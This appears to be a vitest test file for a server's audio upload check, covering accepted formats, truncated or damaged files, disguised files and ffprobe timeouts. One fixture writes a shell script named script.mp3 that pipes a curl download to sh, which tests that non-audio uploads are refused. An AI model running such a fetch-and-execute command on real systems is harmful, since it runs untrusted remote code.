import { chmodSync, copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../server/config';
import { probeAudio } from '../../server/services/media-probe/audio-probe';
import { MediaRefused, ProbeUnavailable } from '../../server/services/media-probe/probe-errors';
import { ffmpeg, sine } from '../helpers/tone';

const dir = mkdtempSync(path.join(tmpdir(), 'hees-audio-probe-'));
const file = (name: string) => path.join(dir, name);
const { ffprobePath } = loadConfig({ FFPROBE_PATH: process.env.FFPROBE_PATH });

const { audio: { ffmpegPath } } = loadConfig({ FFMPEG_PATH: process.env.FFMPEG_PATH });

const refusal = async (name: string) => {
  const error = await probeAudio(file(name), { ffprobePath, ffmpegPath }).catch((failure: unknown) => failure);
  expect(error, name).toBeInstanceOf(MediaRefused);
  return (error as MediaRefused).reason;
};

describe('checking uploaded audio by its bytes (ffprobe)', () => {
  beforeAll(async () => {
    ffmpeg(...sine(3), '-c:a', 'libmp3lame', '-b:a', '128k', file('sine.mp3'));
    ffmpeg(...sine(3), '-c:a', 'aac', '-b:a', '96k', file('sine.m4a'));
    ffmpeg(...sine(3), '-c:a', 'libopus', file('sine.ogg'));
    ffmpeg(...sine(3), '-c:a', 'pcm_s16le', file('sine.wav'));
    ffmpeg(...sine(3), '-c:a', 'flac', file('sine.flac'));
    await sharp({ create: { width: 64, height: 64, channels: 3, background: '#1d6b5f' } }).png().toFile(file('cover.png'));
    // Cover art travels as a video stream marked attached_pic; it is still an audio file.
    ffmpeg('-i', file('sine.mp3'), '-i', file('cover.png'), '-map', '0', '-map', '1', '-c', 'copy', '-disposition:v', 'attached_pic', file('with-cover.mp3'));
    ffmpeg('-f', 'lavfi', '-i', 'testsrc=duration=2:size=160x120:rate=10', '-c:v', 'mpeg4', file('silent-video.mp4'));
    ffmpeg('-f', 'lavfi', '-i', 'testsrc=duration=2:size=160x120:rate=10', ...sine(2), '-c:v', 'mpeg4', '-c:a', 'aac', '-shortest', file('clip.mp4'));
    copyFileSync(file('cover.png'), file('cover-named.mp3'));
    writeFileSync(file('script.mp3'), '#!/bin/sh\ncurl https://example.com/x | sh\n');
    writeFileSync(file('empty.mp3'), '');
    // The LAME header promises three seconds; half the file arrived.
    const mp3 = readFileSync(file('sine.mp3'));
    writeFileSync(file('cut.mp3'), mp3.subarray(0, Math.floor(mp3.length / 2)));
    // Issue 31 item 18: containers where a cut file still looks like a shorter, whole recording to ffprobe.
    ffmpeg(...sine(6), '-c:a', 'libvorbis', file('vorbis.ogg'));
    ffmpeg(...sine(10), '-c:a', 'pcm_s16le', file('ten-seconds.wav'));
    // No Xing/LAME header and no ID3 tag: nothing declares the length but each frame's own header.
    ffmpeg(...sine(6), '-c:a', 'libmp3lame', '-b:a', '128k', '-write_xing', '0', '-id3v2_version', '0', file('plain.mp3'));
    // A WAV written to a pipe declares no sizes; cut at an odd byte, it ends inside a sample.
    writeFileSync(file('piped.wav'), ffmpeg(...sine(4), '-c:a', 'pcm_s16le', '-f', 'wav', '-'));
    const half = (name: string, extra = 0) => {
      const bytes = readFileSync(file(name));
      writeFileSync(file(`half-${name}`), bytes.subarray(0, Math.floor(bytes.length / 2) + extra));
    };
    half('vorbis.ogg');
    half('ten-seconds.wav');
    half('plain.mp3');
    half('piped.wav', 1);
    writeFileSync(file('slow-ffprobe'), '#!/bin/sh\nexec sleep 10\n');
    chmodSync(file('slow-ffprobe'), 0o755);
    writeFileSync(file('not-executable'), 'ffprobe');
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('accepts an MP3 and reports its format, codec, duration, bitrate and channels', async () => {
    const probe = await probeAudio(file('sine.mp3'), { ffprobePath });
    expect(probe).toMatchObject({ format: 'mp3', container: 'mp3', codec: 'mp3', channels: 2, sampleRate: 44100, extension: 'mp3', contentType: 'audio/mpeg' });
    expect(probe.duration).toBeGreaterThan(2.9);
    expect(probe.duration).toBeLessThan(3.2);
    expect(probe.bitrate).toBeGreaterThan(120_000);
    expect(probe.bitrate).toBeLessThan(140_000);
  });

  it.each([
    ['sine.m4a', { format: 'm4a', codec: 'aac', extension: 'm4a', contentType: 'audio/mp4' }],
    ['sine.ogg', { format: 'ogg', codec: 'opus', extension: 'ogg', contentType: 'audio/ogg' }],
    ['sine.wav', { format: 'wav', codec: 'pcm_s16le', extension: 'wav', contentType: 'audio/wav' }],
    ['with-cover.mp3', { format: 'mp3', codec: 'mp3', extension: 'mp3', contentType: 'audio/mpeg' }],
  ])('accepts %s', async (name, expected) => {
    const probe = await probeAudio(file(name), { ffprobePath });
    expect(probe).toMatchObject({ ...expected, channels: 2 });
    expect(probe.duration).toBeGreaterThan(2.9);
  });

  it('accepts the demo catalogue’s mp3s', async () => {
    const probe = await probeAudio(path.resolve('database/seeds/assets/audio/song-1.mp3'), { ffprobePath });
    expect(probe).toMatchObject({ format: 'mp3', codec: 'mp3', channels: 1 });
    expect(probe.duration).toBeGreaterThan(10);
  });

  it('refuses a PNG named .mp3', async () => {
    expect(await refusal('cover-named.mp3')).toBe('The file is a video or an image without sound, not audio.');
  });

  it('refuses a script named .mp3', async () => {
    // The reason in brackets is ffprobe's own ("Invalid argument", "Invalid data found when processing input").
    expect(await refusal('script.mp3')).toMatch(/^The file is not audio we can read \(Invalid .+\)\.$/);
  });

  it('refuses an empty file', async () => {
    expect(await refusal('empty.mp3')).toBe('The file is empty.');
  });

  it('refuses a truncated MP3 whose header promises more', async () => {
    expect(await refusal('cut.mp3')).toMatch(/^The audio file is incomplete: it should last 3\.\d s but ends after 1\.\d s\.$/);
  });

  it('accepts the whole files of the kinds checked below, decoded to the end', async () => {
    for (const name of ['vorbis.ogg', 'sine.ogg', 'sine.mp3', 'ten-seconds.wav', 'plain.mp3', 'piped.wav', 'with-cover.mp3', 'sine.m4a']) {
      expect((await probeAudio(file(name), { ffprobePath, ffmpegPath })).duration, name).toBeGreaterThan(2.9);
    }
  });

  it('refuses half an Ogg Vorbis: its last page is not the end of the stream', async () => {
    expect(await refusal('half-vorbis.ogg')).toMatch(/^The audio file is incomplete: it stops in the middle after [23]\.\d s\.$/);
  });

  it('refuses half a WAV whose header says 10 s', async () => {
    expect(await refusal('half-ten-seconds.wav')).toBe('The audio file is incomplete: it should last 10.0 s but ends after 5.0 s.');
  });

  it('refuses half an MP3 with no header that declares its length: its last frame is cut', async () => {
    expect(await refusal('half-plain.mp3')).toMatch(/^The audio file is incomplete: it stops in the middle after 3\.\d s\.$/);
  });

  it('decodes the whole stream: a WAV that declares no size and ends inside a sample is damaged', async () => {
    expect(await refusal('half-piped.wav')).toMatch(/^The audio file is damaged: it cannot be played to the end \(.+\)\.$/);
    // Without ffmpeg to decode it, the probe alone cannot tell.
    expect((await probeAudio(file('half-piped.wav'), { ffprobePath })).duration).toBeGreaterThan(1.9);
  });

  it('refuses video without audio, and video with it', async () => {
    expect(await refusal('silent-video.mp4')).toBe('The file is a video or an image without sound, not audio.');
    expect(await refusal('clip.mp4')).toBe('The file holds video: upload the audio only.');
  });

  it('refuses a container browsers do not play', async () => {
    expect(await refusal('sine.flac')).toBe('This kind of file (flac) is not accepted: upload MP3, M4A (AAC or ALAC), Ogg (Vorbis, Opus, FLAC) or WAV.');
  });

  it('says clearly that audio cannot be checked when ffprobe is not installed or cannot run', async () => {
    for (const missing of [file('no-such-ffprobe'), file('not-executable')]) {
      const error = await probeAudio(file('sine.mp3'), { ffprobePath: missing }).catch((failure: unknown) => failure);
      expect(error).toBeInstanceOf(ProbeUnavailable);
      expect((error as Error).message).toBe(`Audio cannot be checked: ffprobe could not be started from "${missing}" (install ffmpeg or set FFPROBE_PATH).`);
    }
  });

  it('gives up on a file that takes too long to read', async () => {
    const error = await probeAudio(file('sine.mp3'), { ffprobePath: file('slow-ffprobe'), timeoutMs: 300 }).catch((failure: unknown) => failure);
    expect(error).toBeInstanceOf(MediaRefused);
    expect((error as MediaRefused).reason).toBe('The audio file could not be read within 0.3 seconds.');
  });
});
